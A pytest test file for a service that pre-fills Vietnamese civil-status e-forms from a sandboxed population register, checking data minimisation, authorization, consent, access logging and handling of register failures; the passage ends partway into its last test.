"""Pre-filling e-forms from the population database (SOAP sandbox, through zeep): what is filled and from where,
data minimisation, authorization, consent, reuse of documents, the hash-chained access log, and peer failures —
on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import itertools
import json
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlalchemy import select, text
from starlette.requests import Request as StarletteRequest

from hub.sandbox.common import ServerThread
from hub.settings import ClientSystem, Settings
from hub.store.models import AccessLogEntry, Exchange
from tests.api_helpers import as_documented
from tests.conftest import OTHER_AGENCY, PURPOSE, Creds, Hub, HubFactory, client_systems
from tests.pki_helpers import Trust

AGENCY = "000.00.17.H56"
HUB_BIN = str(Path(sys.executable).with_name("hub"))
KHAI_SINH = "1.001193"


@pytest.fixture
def hub(hub_factory: HubFactory, population_server: ServerThread, people: httpx.Client) -> Hub:
    # the suite's 2 s read timeout, not 1 s: the register is an in-process server beside hub's embedded worker on two
    # cores, and a look-up stalled past the timeout is a 503 (suspected in one unexplained failure in a full run)
    return hub_factory(population_url=f"{population_server.url}/ws/congdan")


def person(people: httpx.Client, **filters: Any) -> dict[str, Any]:
    items: list[dict[str, Any]] = people.get("/_sandbox/people", params={"limit": 50, **filters}).json()["items"]
    return items[0]


def married(people: httpx.Client, sex: str) -> dict[str, Any]:
    items = people.get("/_sandbox/people", params={"limit": 400, "married": True}).json()["items"]
    return next(p for p in items if p["GioiTinh"] == sex)


def full_name(rec: dict[str, Any]) -> str:
    n = rec["HoVaTen"]
    return " ".join(x for x in (n["Ho"], n.get("ChuDem"), n["Ten"]) if x)


def ask(hub: Hub, subject_id: str, procedure: str = KHAI_SINH, **extra: Any) -> httpx.Response:
    body = {
        "procedure": procedure,
        "subject_id": subject_id,
        "purpose": PURPOSE,
        "requested_by": {"officer": "cb-0042", "agency": AGENCY},
        **extra,
    }
    return hub.http.post("/v1/prefill", json=body)


def fields(reply: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {f["name"]: f for f in reply["fields"]}


def log_entries(hub: Hub) -> list[AccessLogEntry]:
    with hub.runtime.sessions() as s:
        return list(s.scalars(select(AccessLogEntry).order_by(AccessLogEntry.id)).all())


def chain(hub: Hub) -> Any:
    """`hub audit verify` of the access log, in process."""
    with hub.runtime.sessions() as s:
        return hub.runtime.prefill.access_log.verify(s)


def test_birth_registration_by_the_father_fills_the_mother_from_his_spouse(hub: Hub, people: httpx.Client) -> None:
    father = married(people, "1")
    wife = people.get("/_sandbox/people", params={"limit": 5000}).json()["items"]
    mother = next(p for p in wife if p["SoDinhDanh"] == father["VoChong"]["SoDinhDanh"])
    r = ask(hub, father["SoDinhDanh"])
    assert r.status_code == 200, r.text
    reply = r.json()
    got = fields(reply)
    assert reply["title"] == "Tờ khai đăng ký khai sinh"
    assert got["nguoi_yeu_cau.ho_ten"]["value"] == full_name(father)
    born = father["NgayThangNamSinh"]["NgayThangNam"]  # the register's {NgayThangNam, Nam}
    assert got["nguoi_yeu_cau.ngay_sinh"]["value"] == f"{born[:4]}-{born[4:6]}-{born[6:]}"
    assert got["nguoi_yeu_cau.noi_cu_tru"]["value"] == father["NoiOHienTai"]["ChiTiet"]
    assert got["cha.ho_ten"]["value"] == full_name(father)
    assert got["me.ho_ten"]["value"] == full_name(mother)
    assert got["me.so_dinh_danh"]["value"] == mother["SoDinhDanh"]
    assert got["me.quoc_tich"]["value"] == "Việt Nam"
    # provenance: every value says where it came from, when, and until when it is good
    assert got["me.ho_ten"]["source"]["system"] == "csdlqg_dan_cu" and got["me.ho_ten"]["source"]["record"] == "spouse"
    assert got["cha.ho_ten"]["source"]["record"] == "subject"
    fetched = datetime.fromisoformat(got["me.ho_ten"]["fetched_at"])
    assert datetime.fromisoformat(got["me.ho_ten"]["valid_until"]) - fetched == timedelta(hours=24)
    # what the population database cannot know stays empty and is listed
    assert {"tre.ho_ten", "tre.ngay_sinh", "nguoi_yeu_cau.quan_he"} <= set(reply["missing_required"])
    assert got["tre.ho_ten"]["value"] is None and "source" not in got["tre.ho_ten"]
    # data minimisation: nothing the form does not ask for leaves hub
    raw = r.text
    for unasked in ("NhomMau", "TonGiao", "SoSoHoKhau", "ChuHo", "SoCMND"):
        assert unasked not in raw
    if father.get("NhomMau"):
        assert f'"{father["NhomMau"]}"' not in raw
    # one access-log entry per person read, allowed, with the fields that left hub
    entries = log_entries(hub)
    assert [(e.subject_role, e.outcome) for e in entries] == [("subject", "allowed"), ("spouse", "allowed")]
    by_role = {e.subject_role: e for e in entries}
    assert "me.ho_ten" in by_role["spouse"].fields and "cha.ho_ten" in by_role["subject"].fields
    assert all(father["SoDinhDanh"] not in json.dumps([e.subject, e.fields]) for e in entries)
    assert by_role["subject"].client == "onestop-hcm" and by_role["subject"].officer == "cb-0042"
    assert by_role["subject"].agency == AGENCY and by_role["subject"].purpose == PURPOSE
    metrics = hub.http.get("/metrics").text
    assert 'hub_personal_data_reads_total{outcome="allowed",procedure="1.001193"} 2.0' in metrics
    assert 'hub_prefill_seconds_count{outcome="ok"} 1.0' in metrics
    assert 'hub_exchange_duration_ms_count{peer="population"} 2.0' in metrics
    # where the time went (Server-Timing): beside hub's whole, the register's two answers and the durable journal
    timing = dict(part.split(";dur=") for part in r.headers["server-timing"].split(", "))
    assert set(timing) == {"app", "register", "journal"} and 0 < float(timing["register"]) < float(timing["app"])
    again = ask(hub, father["SoDinhDanh"]).headers["server-timing"]  # from the cache: the register is not asked
    assert again.startswith("app;dur=") and "register" not in again and ", journal;dur=" in again


def test_birth_registration_by_the_mother_fills_her_own_side(hub: Hub, people: httpx.Client) -> None:
    mother = married(people, "2")
    reply = ask(hub, mother["SoDinhDanh"]).json()
    got = fields(reply)
    assert got["me.ho_ten"]["value"] == full_name(mother) and got["me.ho_ten"]["source"]["record"] == "subject"
    assert got["cha.ho_ten"]["value"] == mother["VoChong"]["HoVaTen"]
    assert got["cha.ho_ten"]["source"]["record"] == "spouse"


def test_an_address_written_before_the_2025_reorganisation_is_kept_and_flagged(hub: Hub, people: httpx.Client) -> None:
    """A residence the register still writes in the old units (Quảng Nam, a district) fills the field as the register
    wrote it, and says it lies in Đà Nẵng now and is for the citizen to check; one in the current units says so."""
    everyone = people.get("/_sandbox/people", params={"limit": 5000}).json()["items"]
    old = next(p for p in everyone if p["NoiOHienTai"]["MaTinhThanh"] == "49" and p["NoiOHienTai"]["MaQuanHuyen"])
    current = next(
        p for p in everyone if p["NoiOHienTai"]["MaTinhThanh"] == "48" and not p["NoiOHienTai"]["MaQuanHuyen"]
    )
    r = ask(hub, old["SoDinhDanh"], "1.004873")
    assert r.status_code == 200, r.text
    as_documented(hub.http.get("/openapi.json").json(), "post", "/v1/prefill", r)  # as the document says
    field = next(f for f in r.json()["fields"] if f["type"] == "address" and f["value"] is not None)
    assert field["value"] == old["NoiOHienTai"]["ChiTiet"] and "Quảng Nam" in field["value"]  # never rewritten
    assert field["administrative_units"] == {
        "province": {"code": "48", "name": "Thành phố Đà Nẵng"},
        "recorded_before_reorganisation": True,
        "province_recorded": {"code": "49", "name": "Tỉnh Quảng Nam"},
    }
    r = ask(hub, current["SoDinhDanh"], "1.004873")
    assert r.status_code == 200, r.text
    field = next(f for f in r.json()["fields"] if f["type"] == "address" and f["value"] is not None)
    assert field["administrative_units"] == {
        "province": {"code": "48", "name": "Thành phố Đà Nẵng"},
        "recorded_before_reorganisation": False,
    }
    # fields that are not addresses carry none
    assert all("administrative_units" not in f for f in r.json()["fields"] if f["type"] != "address")


def test_every_form_template_maps_only_fields_of_the_contract(hub: Hub) -> None:
    from lxml import etree

    from hub.sandbox.population import _schema
    from hub.services.prefill import templates

    schema_doc = _schema()
    assert schema_doc is not None
    wsdl = etree.parse(str(Path("contracts/population/population.wsdl")))
    names = {el.get("name") for el in wsdl.iter("{http://www.w3.org/2001/XMLSchema}element")}
    forms = templates()
    # the seeds' civil-status procedures each have a form
    for code in ("1.001193", "1.000656", "1.000894", "2.000635", "1.004873", "1.004837"):
        assert code in forms
    for template in forms.values():
        assert any(f.required for f in template.fields)
        for f in template.fields:
            for src in f.source:
                for part in src.path.split(".")[1:]:
                    assert part in names, (template.form, src.path)


def test_not_found_and_name_mismatch_are_404_and_logged(hub: Hub, people: httpx.Client) -> None:
    r = ask(hub, "001099000001")
    assert r.status_code == 404 and r.json()["code"] == "subject_not_found"
    assert r.headers["content-type"].startswith("application/problem+json")
    someone = person(people)
    r = ask(hub, someone["SoDinhDanh"], subject_name="Nguyễn Văn Không Khớp")
    assert r.status_code == 404 and r.json()["code"] == "subject_not_found"
    assert ask(hub, someone["SoDinhDanh"], subject_name=full_name(someone).upper()).status_code == 200
    outcomes = [e.outcome for e in log_entries(hub)]
    assert outcomes[:2] == ["not_found", "not_found"] and "allowed" in outcomes


def test_a_birth_date_given_is_matched_and_one_the_id_contradicts_is_refused_at_once(
    hub: Hub, people: httpx.Client
) -> None:
    """The birth date, when the portal gives it, is matched by the register; one whose year is not the ID's (digits
    5–6 are the birth year: a typo in one of the two) is a 422 at once, the register not asked and nothing logged
    as a read."""
    someone = person(people)
    born = someone["NgayThangNamSinh"]["NgayThangNam"]
    day = f"{born[:4]}-{born[4:6]}-{born[6:]}"
    assert ask(hub, someone["SoDinhDanh"], subject_birth_date=day).status_code == 200
    other_day = f"{born[:4]}-{born[4:6]}-{'02' if born[6:] == '01' else '01'}"
    mismatch = ask(hub, someone["SoDinhDanh"], subject_birth_date=other_day)
    assert mismatch.status_code == 404 and mismatch.json()["code"] == "subject_not_found"
    asked = people.get("/_sandbox/received").json()["count"]
    entries = len(log_entries(hub))
    other_year = f"{int(born[:4]) - 1}-{born[4:6]}-01"
    r = ask(hub, someone["SoDinhDanh"], subject_birth_date=other_year)
    assert r.status_code == 422 and r.headers["content-type"] == "application/problem+json"
    assert r.json()["code"] == "invalid_personal_id" and "birth year" in r.json()["detail"]
    assert someone["SoDinhDanh"] not in r.text  # the ID is not echoed
    assert people.get("/_sandbox/received").json()["count"] == asked and len(log_entries(hub)) == entries


@pytest.mark.parametrize(
    ("who", "procedure", "purpose", "agency", "code"),
    [
        ("hcm", KHAI_SINH, "marketing", AGENCY, "prefill_not_allowed"),
        ("hcm", KHAI_SINH, PURPOSE, OTHER_AGENCY, "agency_not_allowed"),
        ("other", KHAI_SINH, "marriage_registration", OTHER_AGENCY, "prefill_not_allowed"),
    ],
)
def test_unauthorized_reads_are_refused_logged_and_never_reach_the_register(
    hub: Hub, people: httpx.Client, creds: Creds, who: str, procedure: str, purpose: str, agency: str, code: str
) -> None:
    someone = person(people)
    key = creds.api_key if who == "hcm" else creds.other_key
    r = hub.http.post(
        "/v1/prefill",
        headers={"X-API-Key": key},
        json={
            "procedure": procedure,
            "subject_id": someone["SoDinhDanh"],
            "purpose": purpose,
            "requested_by": {"officer": "cb-1", "agency": agency},
        },
    )
    assert r.status_code == 403 and r.json()["code"] == code
    assert people.get("/_sandbox/received").json()["count"] == 0
    [entry] = log_entries(hub)
    assert entry.outcome == "refused" and entry.fields == [] and entry.purpose == purpose


def test_bad_input_is_a_clear_problem(hub: Hub) -> None:
    assert ask(hub, "12345").json()["code"] == "invalid_personal_id"
    assert ask(hub, "001099000001", procedure="9.999999").json()["code"] == "unknown_form"
    assert ask(hub, "001099000001", procedure="khai-sinh").status_code == 422
    r = ask(hub, "001099000001", extra_field=1)
    assert r.status_code == 422 and r.json()["code"] == "validation_error"
    r = hub.http.post("/v1/prefill", content=b"{not json", headers={"Content-Type": "application/json"})
    assert r.status_code == 400 and r.json()["code"] == "malformed_json"
    assert hub.http.post("/v1/prefill", json={}, headers={"X-API-Key": "nope"}).status_code == 401


def test_a_blank_form_says_what_a_prefill_fills_and_reads_no_one(hub: Hub, people: httpx.Client, creds: Creds) -> None:
    """A portal renders the e-form before it has a citizen's ID (or for one who fills it by hand): the fields, their
    labels and required marks, and where a pre-fill would take each from — no register call, no access-log entry."""
    r = hub.http.get(f"/v1/forms/{KHAI_SINH}")
    assert r.status_code == 200, r.text
    form = r.json()
    assert form["procedure"] == KHAI_SINH and form["title"] == "Tờ khai đăng ký khai sinh"
    assert form["prefill_purposes"] == [PURPOSE]
    by_name = {f["name"]: f for f in form["fields"]}
    assert by_name["nguoi_yeu_cau.ho_ten"]["filled_from"] == [{"path": "subject.HoVaTen"}]
    assert by_name["tre.ho_ten"] == {  # the child: the citizen writes it
        "name": "tre.ho_ten", "label": by_name["tre.ho_ten"]["label"], "type": "name", "required": True,
        "filled_from": [],
    }  # fmt: skip
    mother = by_name["me.ho_ten"]["filled_from"]  # the applicant if she is the mother, else the spouse
    assert {"path": "subject.HoVaTen", "if": {"subject.GioiTinh": "2"}} in mother
    assert any(src["path"].startswith("spouse.") for src in mother)
    assert people.get("/_sandbox/received").json()["count"] == 0 and log_entries(hub) == []
    assert r.headers["cache-control"] == "private, max-age=300"
    # the portal asks again with the ETag: nothing changed, nothing sent again
    again = hub.http.get(f"/v1/forms/{KHAI_SINH}", headers={"If-None-Match": r.headers["etag"]})
    assert again.status_code == 304 and again.content == b"" and again.headers["etag"] == r.headers["etag"]
    assert hub.http.get(f"/v1/forms/{KHAI_SINH}", headers={"If-None-Match": '"other"'}).status_code == 200

    # the same form as a pre-fill fills it: the same fields in the same order, and only those with a source filled
    father = married(people, "1")
    filled = ask(hub, father["SoDinhDanh"]).json()
    assert [f["name"] for f in filled["fields"]] == list(by_name)
    assert all(by_name[f["name"]]["filled_from"] for f in filled["fields"] if f["value"] is not None)
    assert {n for n, f in by_name.items() if f["required"] and not f["filled_from"]} <= set(filled["missing_required"])

    # another province's system: the form, but no purpose it may pre-fill it for; its own procedure listed with its
    other = {"X-API-Key": creds.other_key}
    assert hub.http.get(f"/v1/forms/{KHAI_SINH}", headers=other).json()["prefill_purposes"] == []
    listed = {f["procedure"]: f for f in hub.http.get("/v1/forms", headers=other).json()}
    assert listed["1.004873"]["prefill_purposes"] == ["marriage_registration"]
    assert listed[KHAI_SINH]["prefill_purposes"] == [] and list(listed) == sorted(listed)
    assert {"1.001193", "1.000656", "1.000894", "2.000635", "1.004873", "1.004837"} <= set(listed)


def test_a_form_as_json_schema_checks_what_the_citizen_and_the_prefill_write(hub: Hub, people: httpx.Client) -> None:
    """Each procedure's e-form as a JSON Schema (draft 2020-12): a valid schema; a pre-filled form's values satisfy it
    but for the required fields left for the citizen; what a citizen types wrong (a date, an ID) does not."""
    from jsonschema import Draft202012Validator, FormatChecker

    for procedure in [f["procedure"] for f in hub.http.get("/v1/forms").json()]:
        r = hub.http.get(f"/v1/forms/{procedure}/schema")
        assert r.status_code == 200 and r.headers["content-type"].startswith("application/schema+json")
        Draft202012Validator.check_schema(r.json())
    schema = hub.http.get(f"/v1/forms/{KHAI_SINH}/schema").json()
    assert schema["properties"]["nguoi_yeu_cau"]["properties"]["ho_ten"]["title"] == "Họ, chữ đệm, tên người yêu cầu"
    validator = Draft202012Validator(schema, format_checker=FormatChecker())
    filled = ask(hub, married(people, "1")["SoDinhDanh"]).json()
    data: dict[str, Any] = {}
    for f in filled["fields"]:
        if f["value"] is not None:
            *groups, leaf = f["name"].split(".")
            node = data
            for g in groups:
                node = node.setdefault(g, {})
            node[leaf] = f["value"]

    # what the schema finds missing is what the pre-fill left for the citizen (a group left whole: the group)
    absent = set()
    for e in validator.iter_errors(data):
        assert e.validator == "required", e.message  # nothing the pre-fill wrote is wrong
        path = ".".join(map(str, e.absolute_path))
        absent |= {f"{path}.{n}".lstrip(".") for n in e.validator_value if n not in e.instance}
    left = set(filled["missing_required"])
    assert all(any(m == a or m.startswith(a + ".") for m in left) for a in absent)
    assert all(any(m == a or m.startswith(a + ".") for a in absent) for m in left)
    wrong = json.loads(json.dumps(data))
    wrong["nguoi_yeu_cau"]["ngay_sinh"], wrong["nguoi_yeu_cau"]["so_dinh_danh"] = "12/02/1962", "0010629384"
    assert {tuple(e.absolute_path) for e in validator.iter_errors(wrong) if e.validator != "required"} == {
        ("nguoi_yeu_cau", "ngay_sinh"), ("nguoi_yeu_cau", "so_dinh_danh")
    }  # fmt: skip


def test_a_blank_form_of_a_bad_or_unknown_procedure_is_a_clear_problem(hub: Hub) -> None:
    r = hub.http.get("/v1/forms/9.999999")
    assert r.status_code == 404 and r.json()["code"] == "unknown_form"
    assert r.headers["content-type"].startswith("application/problem+json")
    r = hub.http.get("/v1/forms/khai-sinh")
    assert r.status_code == 422 and r.json()["code"] == "invalid_procedure_code"
    long = hub.http.get("/v1/forms/" + "1" * 5000)  # quoted, not echoed whole
    assert long.status_code == 422 and len(long.content) < 1000 and "…" in long.json()["detail"]
    assert hub.http.get(f"/v1/forms/{KHAI_SINH}", headers={"X-API-Key": "nope"}).status_code == 401


def test_answers_with_personal_data_are_kept_in_no_cache(hub: Hub, people: httpx.Client) -> None:
    r = ask(hub, person(people)["SoDinhDanh"])
    assert r.status_code == 200 and r.headers["cache-control"] == "no-store"
    assert r.headers["x-content-type-options"] == "nosniff"


def test_documents_are_offered_only_with_a_live_consent(hub: Hub, people: httpx.Client, creds: Creds) -> None:
    father = married(people, "1")
    now = datetime.now(UTC)

    def document(number: str, valid_until: datetime | None) -> None:
        r = hub.http.post(
            "/v1/documents",
            json={
                "holder_id": father["SoDinhDanh"],
                "kind": "giay_chung_nhan_ket_hon",
                "title": "Giấy chứng nhận kết hôn",
                "number": number,
                "issuer": AGENCY,
                "issued_at": (now - timedelta(days=400)).isoformat(),
                "valid_until": valid_until.isoformat() if valid_until else None,
                "reference": f"https://onestop.example/docs/{number}",
            },
        )
        assert r.status_code == 201, r.text

    document("12/2024/KH", None)
    document("13/2020/KH", now - timedelta(days=1))  # no longer valid: never offered
    for moment in ("2025-01-01T00:00:00", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-12:00"):
        # no offset (which zone?), or past what UTC holds: 422, nothing stored
        consent = {"subject_id": father["SoDinhDanh"], "purpose": PURPOSE, "scope": ["documents"], "expires_at": moment}
        r = hub.http.post("/v1/consents", json=consent)
        assert r.status_code == 422 and r.json()["code"] == "invalid_date", r.text
    assert ask(hub, father["SoDinhDanh"]).json()["documents"] == []  # no consent, no documents
    granted = hub.http.post(
        "/v1/consents", json={"subject_id": father["SoDinhDanh"], "purpose": PURPOSE, "scope": ["documents"]}
    )
    assert granted.status_code == 201
    ref = granted.json()["consent_ref"]
    reply = ask(hub, father["SoDinhDanh"], consent_ref=ref).json()
    assert [d["number"] for d in reply["documents"]] == ["12/2024/KH"] and reply["documents_offered"]
    # the answer is what the OpenAPI document says it is (PrefillOut), for clients generated from it
    from jsonschema import Draft202012Validator

    spec = hub.http.get("/openapi.json").json()
    documented = Draft202012Validator({"$ref": "#/components/schemas/PrefillOut", "components": spec["components"]})
    assert list(documented.iter_errors(reply)) == []
    assert spec["paths"]["/v1/prefill"]["post"]["responses"]["200"]["content"]["application/json"]["schema"] == {
        "$ref": "#/components/schemas/PrefillOut"
    }
    subject_entries = [e for e in log_entries(hub) if e.subject_role == "subject"]
    assert "documents:giay_chung_nhan_ket_hon" in subject_entries[-1].fields
    # another citizen cannot use this consent
    other = married(people, "2")
    r = ask(hub, other["SoDinhDanh"], consent_ref=ref)
    assert r.status_code == 403 and r.json()["code"] == "consent_unknown"
    # revoked: refused at once, and logged
    assert hub.http.post(f"/v1/consents/{ref}/revoke").status_code == 200
    r = ask(hub, father["SoDinhDanh"], consent_ref=ref)
    assert r.status_code == 403 and r.json()["code"] == "consent_revoked"
    assert log_entries(hub)[-1].outcome == "refused"
    # only the client that recorded a consent may revoke it
    other_client = {"X-API-Key": creds.other_key}
    assert hub.http.post(f"/v1/consents/{ref}/revoke", headers=other_client).json()["code"] == "unknown_consent"


def test_a_registers_wait_told_to_one_process_holds_for_every_process(
    population_server: ServerThread, people: httpx.Client
) -> None:
    """Distributed mode: two hub processes (two population clients, each with its own connection to the real Redis).
    The register tells the first to wait (429, Retry-After: 3): the second does not call it before the wait is over
    either — the register is told once, not once per process. Redis not answering changes nothing but that."""
    import uuid

    from hub.adapters.errors import PeerUnavailable
    from hub.adapters.population import CitizenLookup, PopulationClient
    from hub.adapters.waits import RedisWaits
    from hub.sandbox import population

    someone = person(people)["SoDinhDanh"]
    url = "redis://127.0.0.1:6379/0"
    address = f"{population_server.url}/ws/congdan"

    def process(redis_url: str) -> tuple[PopulationClient, RedisWaits]:
        waits = RedisWaits(redis_url)
        return PopulationClient(address, wsdl=population.wsdl_path(), shared_waits=waits), waits

    def lookup(client: PopulationClient) -> dict[str, Any] | None:
        return client.look_up(CitizenLookup(someone, uuid.uuid4().hex, "cb-1", KHAI_SINH), correlation_id="t")

    (first, w1), (second, w2) = process(url), process(url)
    import redis

    redis.Redis.from_url(url).delete("hub:wait:population")
    people.post("/_sandbox/faults", json={"rate_limit_seconds": 3})
    try:
        with pytest.raises(PeerUnavailable) as told:
            lookup(first)
        assert told.value.retry_after and told.value.retry_after > 1
        with pytest.raises(PeerUnavailable, match="asked to wait") as held:
            lookup(second)
        assert held.value.retry_after and 1 < held.value.retry_after <= 3
        assert people.get("/_sandbox/faults").json()["rate_limited"] == 1  # the second process did not call
        # a process whose Redis does not answer calls the register as before (and is told by it)
        lonely, w3 = process("redis://127.0.0.1:9/0")
        with pytest.raises(PeerUnavailable):
            lookup(lonely)
        assert people.get("/_sandbox/faults").json()["rate_limited"] == 2
        lonely.close()
        w3.close()
    finally:
        people.post("/_sandbox/faults", json={"rate_limit_seconds": 0})
        redis.Redis.from_url(url).delete("hub:wait:population")
    for client, waits in ((first, w1), (second, w2)):
        client.close()
        waits.close()


def test_documents_and_consents_that_cannot_be_right_are_refused(hub: Hub) -> None:
    """A consent that has expired already, a document valid until before it was issued or issued in the future,
    and a document number its issuer gave to another citizen are each refused with their own code, nothing
    stored; the same document registered again is answered as the first time."""
    now = datetime.now(UTC)
    mine, theirs = "079190000123", "079190000456"
    past = {"subject_id": mine, "purpose": PURPOSE, "scope": ["documents"],
            "expires_at": (now - timedelta(minutes=1)).isoformat()}  # fmt: skip
    r = hub.http.post("/v1/consents", json=past)
    assert r.status_code == 422 and r.json()["code"] == "consent_expires_in_past", r.text
    doc = {"holder_id": mine, "kind": "giay_chung_nhan_ket_hon", "title": "Giấy chứng nhận kết hôn",
           "number": "20/2024/KH", "issuer": AGENCY, "issued_at": (now - timedelta(days=30)).isoformat(),
           "reference": "https://onestop.example/docs/20-2024-KH.pdf"}  # fmt: skip
    for bad, code in (
        ({"valid_until": (now - timedelta(days=31)).isoformat()}, "document_validity_invalid"),
        ({"issued_at": (now + timedelta(days=2)).isoformat()}, "document_issued_in_future"),
    ):
        r = hub.http.post("/v1/documents", json={**doc, **bad})
        assert r.status_code == 422 and r.json()["code"] == code, r.text
    first = hub.http.post("/v1/documents", json=doc)
    assert first.status_code == 201
    again = hub.http.post("/v1/documents", json=doc)
    assert again.status_code == 200 and again.json() == {"document_id": first.json()["document_id"], "created": False}
    taken = hub.http.post("/v1/documents", json={**doc, "holder_id": theirs})
    assert taken.status_code == 409 and taken.json()["code"] == "document_number_taken", taken.text
    # a one-stop system that sends the same new document on several connections at once (a retry after a timeout
    # while the first still runs): one is created, every answer names it — none is a 500 of the unique key
    from concurrent.futures import ThreadPoolExecutor

    other = {**doc, "number": "21/2024/KH"}

    def send(_: int) -> httpx.Response:
        with httpx.Client(base_url=hub.url, headers=dict(hub.http.headers), timeout=30) as c:
            return c.post("/v1/documents", json=other)

    with ThreadPoolExecutor(8) as pool:
        answers = list(pool.map(send, range(8)))
    assert {r.status_code for r in answers} <= {200, 201}, [r.text for r in answers]
    assert len({r.json()["document_id"] for r in answers}) == 1
    assert [r.json()["created"] for r in answers].count(True) == 1
    from hub.store.models import Consent, Document

    with hub.runtime.sessions() as s:
        assert s.query(Document).count() == 2 and s.query(Consent).count() == 0


def test_a_consent_withdrawn_while_the_register_is_asked_offers_no_document(hub: Hub, people: httpx.Client) -> None:
    """The citizen withdraws the consent while hub waits for the population database (here 0.8 s a look-up, two
    look-ups): the pre-fill is refused as if it had been withdrawn before — no document offered under it — and the
    refusal is in the access log."""
    import threading

    father = married(people, "1")
    registered = hub.http.post(
        "/v1/documents",
        json={
            "holder_id": father["SoDinhDanh"], "kind": "giay_chung_nhan_ket_hon", "title": "Giấy chứng nhận kết hôn",
            "number": "21/2024/KH", "issuer": AGENCY, "issued_at": "2024-05-01T08:00:00+07:00",
            "reference": "https://onestop.example/docs/21",
        },
    )  # fmt: skip
    assert registered.status_code == 201, registered.text
    ref = hub.http.post(
        "/v1/consents", json={"subject_id": father["SoDinhDanh"], "purpose": PURPOSE, "scope": ["documents"]}
    ).json()["consent_ref"]
    people.post("/_sandbox/faults", json={"latency_ms": 800})
    answers: list[httpx.Response] = []
    asking = threading.Thread(target=lambda: answers.append(ask(hub, father["SoDinhDanh"], consent_ref=ref)))
    asking.start()
    wait_for = time.monotonic() + 5
    while people.get("/_sandbox/received").json()["count"] == 0:  # the register has been asked
        assert time.monotonic() < wait_for
        time.sleep(0.02)
    assert hub.http.post(f"/v1/consents/{ref}/revoke").status_code == 200
    asking.join(10)
    (answer,) = answers
    assert answer.status_code == 403 and answer.json()["code"] == "consent_revoked", answer.text
    assert "21/2024/KH" not in answer.text
    last = log_entries(hub)[-1]
    assert (last.outcome, last.consent_ref, last.fields) == ("refused", ref, [])
    # the same request, the consent given again: the documents are offered (what the refusal held back)
    people.post("/_sandbox/reset")
    ref = hub.http.post(
        "/v1/consents", json={"subject_id": father["SoDinhDanh"], "purpose": PURPOSE, "scope": ["documents"]}
    ).json()["consent_ref"]
    assert [d["number"] for d in ask(hub, father["SoDinhDanh"], consent_ref=ref).json()["documents"]] == ["21/2024/KH"]


@pytest.mark.parametrize(
    ("faults", "code"),
    [
        ({"fault_rate": 1.0}, "population_unavailable"),
        ({"outage_seconds": 30}, "population_unavailable"),
        ({"malformed_rate": 1.0}, "population_unavailable"),
        ({"timeout_rate": 1.0, "hang_seconds": 8}, "population_unavailable"),  # past the tests' 5 s read timeout
    ],
)
def test_register_failures_are_503_problems_and_logged(
    hub: Hub, people: httpx.Client, faults: dict[str, Any], code: str
) -> None:
    someone = person(people)
    people.post("/_sandbox/faults", json=faults)
    r = ask(hub, someone["SoDinhDanh"])
    assert r.status_code == 503 and r.json()["code"] == code
    [entry] = log_entries(hub)
    assert entry.outcome == "failed" and entry.reason
    with hub.runtime.sessions() as s:
        [exchange] = s.scalars(select(Exchange).where(Exchange.peer == "population")).all()
    assert exchange.outcome == "retryable" and exchange.correlation_id == entry.correlation_id


def test_a_register_that_asks_to_wait_is_passed_on_to_the_client(hub: Hub, people: httpx.Client) -> None:
    """The register throttles hub (429, Retry-After): hub's 503 tells its client the same wait, in its own
    Retry-After and in the problem, so the portal does not hammer hub meanwhile — and hub itself does not call the
    register again before the wait is over (other citizens' pre-fills are answered 503 at once, with what is left
    of it); after it, the register is asked again."""
    items = people.get("/_sandbox/people", params={"limit": 2}).json()["items"]
    someone, other = items[0], items[1]
    people.post("/_sandbox/faults", json={"rate_limit_seconds": 3})
    r = ask(hub, someone["SoDinhDanh"])
    assert r.status_code == 503 and r.json()["code"] == "population_unavailable"
    assert 2 <= int(r.headers["Retry-After"]) <= 3 and r.json()["retry_after"] == int(r.headers["Retry-After"])
    r = ask(hub, other["SoDinhDanh"])
    assert r.status_code == 503 and 1 <= int(r.headers["Retry-After"]) <= 3
    assert people.get("/_sandbox/faults").json()["rate_limited"] == 1  # the register was called once, not twice
    time.sleep(3.1)
    r = ask(hub, someone["SoDinhDanh"])
    assert r.status_code == 200 and "Retry-After" not in r.headers


def test_a_register_that_refuses_connections_is_unavailable_not_slow(hub_factory: HubFactory) -> None:
    """Nothing listens where the register should be: 503, logged as `peer_unavailable` — not as a timeout
    (urllib3 makes a refused connection a subclass of its connect timeout; operators read the difference)."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    hub = hub_factory(population_url=f"http://127.0.0.1:{port}/ws/congdan", connect_timeout=0.5)
    r = ask(hub, "079195001234")
    assert r.status_code == 503
    [entry] = log_entries(hub)
    assert entry.outcome == "failed" and entry.reason == "peer_unavailable"


def test_partial_records_leave_fields_for_the_citizen(
    hub_factory: HubFactory, population_server: ServerThread, people: httpx.Client
) -> None:
    hub = hub_factory(population_url=f"{population_server.url}/ws/congdan", population_cache_seconds=0)
    father = married(people, "1")
    complete = ask(hub, father["SoDinhDanh"]).json()
    people.post("/_sandbox/faults", json={"partial_rate": 1.0})
    partial = ask(hub, father["SoDinhDanh"]).json()
    assert len(partial["missing_required"]) >= len(complete["missing_required"])
    assert fields(partial)["nguoi_yeu_cau.ho_ten"]["value"] == full_name(father)


def test_a_citizen_whose_birth_day_the_register_does_not_know_gets_no_invented_date(
    hub_factory: HubFactory, population_server: ServerThread, people: httpx.Client
) -> None:
    """The register holds some citizens' birth year alone (NgayThangNamSinh{Nam}): their form's birth dates are
    left for the citizen, listed as still to fill, not filled with a day the state does not know."""
    hub = hub_factory(population_url=f"{population_server.url}/ws/congdan", population_cache_seconds=0)
    father = married(people, "1")
    complete = fields(ask(hub, father["SoDinhDanh"]).json())
    assert complete["nguoi_yeu_cau.ngay_sinh"]["value"]
    people.post("/_sandbox/faults", json={"year_only_rate": 1.0})
    reply = ask(hub, father["SoDinhDanh"]).json()
    got = fields(reply)
    assert got["nguoi_yeu_cau.ngay_sinh"]["value"] is None and "nguoi_yeu_cau.ngay_sinh" in reply["missing_required"]
    assert got["nguoi_yeu_cau.ho_ten"]["value"] == full_name(father)  # the rest of the record still fills the form


def test_every_lookup_is_an_exchange_record_without_personal_data(hub: Hub, people: httpx.Client) -> None:
    father = married(people, "1")
